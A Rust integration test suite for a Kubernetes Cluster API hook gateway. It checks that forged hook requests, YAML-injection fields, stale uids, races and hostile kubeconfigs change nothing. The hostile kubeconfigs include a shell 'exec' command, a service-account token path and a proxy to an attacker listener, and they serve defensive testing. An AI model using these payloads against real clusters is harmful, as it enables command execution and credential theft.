//! The attacks of "konnector acts only on what the live management cluster says", each performed against real
//! API servers, each proving that nothing changed: no object written, no request sent to the attacker.

use std::{
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    time::Duration,
};

use konnector_executor::ExecutorConfig;
use konnector_gateway::catalog::Hook;
use konnector_proto::v1::{ApplyAgentRequest, ClusterRef, Trigger};
use konnector_tests::{
    caaph_stand_in::hcp_resource,
    executor_fixture::{
        ExecutorEnv, TEST_CREDENTIALS_SECRET, TEST_NAMESPACE, TEST_PASSWORD, addon_cluster_config,
        executor_env, start_executor,
    },
    gateway_fixture, support,
    workload::{self, ClusterOptions},
};
use kube::{Api, api::DynamicObject};
use serde_json::{Value, json};
use tonic::Code;

async fn env(name: &str) -> ExecutorEnv {
    konnector_tests::init_test_logging();
    executor_env(name, ExecutorConfig::default(), ClusterOptions::initialized())
        .await
        .unwrap()
}

fn hcps(env: &ExecutorEnv) -> Api<DynamicObject> {
    Api::namespaced_with(env.admin.clone(), TEST_NAMESPACE, &hcp_resource())
}

async fn apply(env: &ExecutorEnv, cluster: ClusterRef) -> Result<(), tonic::Status> {
    support::apply_agent(&env.executor, cluster, Trigger::AfterControlPlaneInitialized)
        .await
        .map(|_| ())
}

/// A hook body for the environment's Cluster whose clusterConfig says what an attacker wants: Prism Central at
/// the attacker's host, a category value that tries to add YAML, and another credentials Secret.
fn forged_body(hook: Hook, env: &ExecutorEnv) -> Value {
    json!({
        "apiVersion": "hooks.runtime.cluster.x-k8s.io/v1alpha1",
        "kind": format!("{}Request", hook.name()),
        "cluster": {
            "apiVersion": "cluster.x-k8s.io/v1beta2", "kind": "Cluster",
            "metadata": {"name": env.cluster.name, "namespace": env.cluster.namespace, "uid": env.cluster.uid,
                "labels": {"cluster.x-k8s.io/cluster-name": env.cluster.name}},
            "spec": {"topology": {"variables": [{"name": "clusterConfig", "value": {
                "addons": {"konnectorAgent": {"credentials": {"secretRef": {"name": "someone-elses-secret"}}}},
                "nutanix": {"prismCentralEndpoint": {"url": "https://attacker.example:9440", "insecure": true}},
                "controlPlane": {"nutanix": {"machineDetails": {"additionalCategories": [
                    {"key": "Env", "value": "x\nagent:\n  image:\n    repository: evil.example/agent"}]}}}
            }}]}}
        }
    })
}

async fn post(gateway: &gateway_fixture::RunningGateway, hook: Hook, body: &Value) -> Value {
    let raw = gateway
        .client()
        .unwrap()
        .post_raw(&hook.path(), serde_json::to_vec(body).unwrap(), 10, &[])
        .await
        .unwrap();
    assert_eq!(raw.status, 200);
    serde_json::from_slice(&raw.body).unwrap()
}

#[tokio::test]
async fn a_hook_body_is_only_a_trigger() {
    let env = env("trust-body").await;
    let gateway = gateway_fixture::start_gateway(&env.executor.endpoint(), "v1.14")
        .await
        .unwrap();

    // The forged AfterControlPlaneInitialized is answered, but everything applied comes from the live Cluster.
    let answer = post(
        &gateway,
        Hook::AfterControlPlaneInitialized,
        &forged_body(Hook::AfterControlPlaneInitialized, &env),
    )
    .await;
    assert_eq!(answer["status"], "Success", "{answer}");
    let hcp = hcps(&env).get("konnector-agent-c1").await.unwrap();
    let values = hcp.data["spec"]["valuesTemplate"].as_str().unwrap();
    assert!(values.contains("endpoint: \"pc.example.com\""), "{values}");
    for forged in ["attacker.example", "evil.example", "Env="] {
        assert!(!values.contains(forged), "{forged} reached the values: {values}");
    }
    let remote = Api::<k8s_openapi::api::core::v1::Secret>::namespaced(
        env.workload.client().await.unwrap(),
        "ntnx-system",
    )
    .get("konnector-agent")
    .await
    .unwrap();
    assert_eq!(
        remote.data.unwrap()["password"].0,
        TEST_PASSWORD.as_bytes(),
        "the live Cluster's credentials Secret was copied, not the one the body named"
    );

    // BeforeClusterDelete for a Cluster that is not being deleted: Failure, and nothing deleted.
    let before = hcp.metadata.resource_version.clone();
    let answer = post(
        &gateway,
        Hook::BeforeClusterDelete,
        &forged_body(Hook::BeforeClusterDelete, &env),
    )
    .await;
    assert_eq!(answer["status"], "Failure", "{answer}");
    assert!(
        answer["message"]
            .as_str()
            .unwrap()
            .contains("is not being deleted"),
        "{answer}"
    );
    let after = hcps(&env).get("konnector-agent-c1").await.unwrap();
    assert_eq!(after.metadata.resource_version, before);
    assert!(after.metadata.deletion_timestamp.is_none());

    // A body naming another uid (a Cluster since replaced) is stale, for every hook, and changes nothing.
    for hook in Hook::ALL {
        let mut body = forged_body(hook, &env);
        body["cluster"]["metadata"]["uid"] = "0b5a3c1e-0000-4000-8000-000000000000".into();
        let answer = post(&gateway, hook, &body).await;
        assert_eq!(answer["status"], "Failure", "{hook}: {answer}");
        assert!(
            answer["message"].as_str().unwrap().contains("stale"),
            "{hook}: {answer}"
        );
    }
    assert_eq!(
        hcps(&env)
            .get("konnector-agent-c1")
            .await
            .unwrap()
            .metadata
            .resource_version,
        before
    );

    // The same injection written into the live Cluster itself (by whoever may edit it) is refused before any
    // write, naming the input and never echoing it. AfterControlPlaneInitialized fails; BeforeClusterUpgrade warns
    // by default (--upgrade-config-policy warn: the upgrade proceeds, nothing is re-applied).
    let mut cc = addon_cluster_config(TEST_CREDENTIALS_SECRET);
    cc["controlPlane"] = json!({"nutanix": {"machineDetails": {"additionalCategories": [
        {"key": "Env", "value": "x\nagent:\n  image:\n    repository: evil.example/agent"}]}}});
    env.set_cluster_config(cc).await.unwrap();
    let warned = post(
        &gateway,
        Hook::BeforeClusterUpgrade,
        &forged_body(Hook::BeforeClusterUpgrade, &env),
    )
    .await;
    assert_eq!(warned["status"], "Success", "{warned}");
    let warning = warned["message"].as_str().unwrap();
    assert!(warning.contains("not re-applied"), "{warning}");
    assert!(
        !warning.contains("evil.example") && !warning.contains("agent:"),
        "never echoes it: {warning}"
    );
    let answer = post(
        &gateway,
        Hook::AfterControlPlaneInitialized,
        &forged_body(Hook::AfterControlPlaneInitialized, &env),
    )
    .await;
    assert_eq!(answer["status"], "Failure", "{answer}");
    let message = answer["message"].as_str().unwrap();
    assert!(
        message.to_lowercase().contains("categor"),
        "names the input: {message}"
    );
    assert!(
        !message.contains("evil.example") && !message.contains("agent:"),
        "never echoes it: {message}"
    );
    assert_eq!(
        hcps(&env)
            .get("konnector-agent-c1")
            .await
            .unwrap()
            .metadata
            .resource_version,
        before
    );
    for (field, hostile) in [
        ("url", json!("https://pc.example.com\n#:9440")),
        ("additionalTrustBundle", json!("LS0t\nagent: x")),
    ] {
        let mut cc = addon_cluster_config(TEST_CREDENTIALS_SECRET);
        cc["nutanix"]["prismCentralEndpoint"][field] = hostile;
        cc["nutanix"]["prismCentralEndpoint"]["insecure"] = false.into();
        env.set_cluster_config(cc).await.unwrap();
        // AfterControlPlaneInitialized refuses; BeforeClusterUpgrade warns by default and writes nothing. Neither
        // echoes the hostile text.
        for (hook, status) in [
            (Hook::AfterControlPlaneInitialized, "Failure"),
            (Hook::BeforeClusterUpgrade, "Success"),
        ] {
            let answer = post(&gateway, hook, &forged_body(hook, &env)).await;
            assert_eq!(answer["status"], status, "{field} {hook}: {answer}");
            assert!(
                !answer["message"].as_str().unwrap().contains("agent: x"),
                "{answer}"
            );
        }
    }
    assert_eq!(
        hcps(&env)
            .get("konnector-agent-c1")
            .await
            .unwrap()
            .metadata
            .resource_version,
        before
    );
    env.set_cluster_config(addon_cluster_config(TEST_CREDENTIALS_SECRET))
        .await
        .unwrap();

    // A body naming a Cluster that does not exist gets nothing read in its namespace and nothing written.
    let mut body = forged_body(Hook::AfterControlPlaneInitialized, &env);
    body["cluster"]["metadata"]["name"] = "ghost".into();
    let answer = post(&gateway, Hook::AfterControlPlaneInitialized, &body).await;
    assert_eq!(answer["status"], "Failure", "{answer}");
    assert!(
        hcps(&env)
            .get_opt("konnector-agent-ghost")
            .await
            .unwrap()
            .is_none()
    );
}

/// A listener standing in for a server the tenant controls; it counts connections.
struct Attacker {
    addr: std::net::SocketAddr,
    connections: Arc<AtomicUsize>,
}

async fn attacker() -> Attacker {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let connections = Arc::new(AtomicUsize::new(0));
    let counter = connections.clone();
    tokio::spawn(async move {
        while let Ok((_socket, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    Attacker { addr, connections }
}

#[tokio::test]
async fn a_hostile_kubeconfig_sends_nothing_anywhere() {
    let env = env("trust-kubeconfig").await;
    let evil = attacker().await;
    let server = format!("https://{}", evil.addr);
    let sa_token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let kubeconfig = |cluster: &str, user: &str| {
        format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: x\ncontexts:\n- name: x\n  context: {{cluster: x, user: x}}\nclusters:\n- name: x\n  cluster: {cluster}\nusers:\n- name: x\n  user: {user}\n"
        )
    };
    let ca = "certificate-authority-data: Q0E=";
    let cases = [
        (
            kubeconfig(
                &format!("{{server: '{server}', {ca}}}"),
                &format!("{{tokenFile: {sa_token}}}"),
            ),
            "tokenFile",
        ),
        (
            kubeconfig(
                &format!("{{server: '{server}', {ca}}}"),
                "{exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'touch /tmp/pwned']}}",
            ),
            "exec",
        ),
        (
            kubeconfig(
                &format!("{{server: '{server}', {ca}}}"),
                "{auth-provider: {name: oidc}}",
            ),
            "auth-provider",
        ),
        (
            kubeconfig(
                &format!("{{server: '{server}', {ca}}}"),
                "{client-certificate: /etc/ssl/x.crt, client-key: /etc/ssl/x.key}",
            ),
            "client-certificate",
        ),
        (
            kubeconfig(
                &format!(
                    "{{server: 'https://10.255.0.1:6443', {ca}, proxy-url: 'http://{}'}}",
                    evil.addr
                ),
                "{token: t}",
            ),
            "proxy-url",
        ),
        (
            kubeconfig(&format!("{{server: 'http://{}', {ca}}}", evil.addr), "{token: t}"),
            "https://",
        ),
        (
            kubeconfig(
                &format!("{{server: '{server}', insecure-skip-tls-verify: true}}"),
                "{token: t}",
            ),
            "insecure-skip-tls-verify",
        ),
        (
            kubeconfig(
                &format!("{{server: '{server}', certificate-authority: /etc/ssl/ca.crt}}"),
                "{token: t}",
            ),
            "certificate-authority",
        ),
    ];
    for (yaml, field) in cases {
        workload::put_kubeconfig_secret(&env.admin, TEST_NAMESPACE, "c1", &yaml)
            .await
            .unwrap();
        let err = apply(&env, env.cluster_ref()).await.unwrap_err();
        assert_eq!(err.code(), Code::FailedPrecondition, "{field}: {err:?}");
        assert!(err.message().contains(field), "{field}: {}", err.message());
        assert!(!err.message().contains(sa_token) && !err.message().contains(&evil.addr.to_string()));
    }
    assert_eq!(
        evil.connections.load(Ordering::SeqCst),
        0,
        "a request reached the attacker's server"
    );
    assert!(
        hcps(&env).get_opt("konnector-agent-c1").await.unwrap().is_none(),
        "nothing may be written"
    );
    assert!(!std::path::Path::new("/tmp/pwned").exists());
}

/// Applies race a deletion and its RemoveAgent. With one executor behind several gateways, ApplyAgent and
/// RemoveAgent for a Cluster are serialised, so once RemoveAgent has said done no HelmChartProxy may ever exist
/// again (`strict`). With two executor replicas, an apply that read the Cluster before its deletion began can
/// still write just after; it then reads the Cluster again and takes its write back, so nothing is left behind.
async fn race(name: &str, two_replicas: bool) {
    let env = env(name).await;
    let other = start_executor(&env.mgmt, ExecutorConfig::default())
        .await
        .unwrap();
    apply(&env, env.cluster_ref()).await.unwrap();
    let executors = if two_replicas {
        [&env.executor, &other, &env.executor, &other]
    } else {
        [&env.executor; 4]
    };
    let mut clients = Vec::new();
    for executor in executors {
        clients.push(executor.client().await.unwrap());
    }

    let stop = Arc::new(AtomicBool::new(false));
    let mut appliers = Vec::new();
    for mut client in clients {
        let stop = stop.clone();
        let cluster = env.cluster_ref();
        appliers.push(tokio::spawn(async move {
            let mut refused = 0;
            while !stop.load(Ordering::SeqCst) {
                let r = client
                    .apply_agent(ApplyAgentRequest {
                        cluster: Some(cluster.clone()),
                        trigger: Trigger::BeforeClusterUpgrade as i32,
                    })
                    .await;
                if let Err(e) = r {
                    assert!(
                        matches!(e.code(), Code::FailedPrecondition | Code::Unavailable),
                        "an apply racing a deletion fails cleanly: {e:?}"
                    );
                    refused += 1;
                }
            }
            refused
        }));
    }
    env.start_deletion().await.unwrap();
    let done = support::remove_until_done(&env.executor, env.cluster_ref())
        .await
        .pop()
        .unwrap();
    assert!(done.done);
    // The appliers keep trying after "done" for a while.
    for _ in 0..20 {
        if !two_replicas {
            assert!(
                hcps(&env).get_opt("konnector-agent-c1").await.unwrap().is_none(),
                "a HelmChartProxy exists after RemoveAgent said done"
            );
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    stop.store(true, Ordering::SeqCst);
    let mut refused = 0;
    for a in appliers {
        refused += a.await.unwrap();
    }
    assert!(refused > 0, "the appliers raced the deletion");
    assert!(
        hcps(&env).get_opt("konnector-agent-c1").await.unwrap().is_none(),
        "an agent was left behind after RemoveAgent said done"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_apply_and_remove_through_one_executor_never_leave_an_agent_behind() {
    race("trust-race-one", false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_apply_and_remove_across_two_executors_leave_nothing_behind() {
    race("trust-race-two", true).await;
}
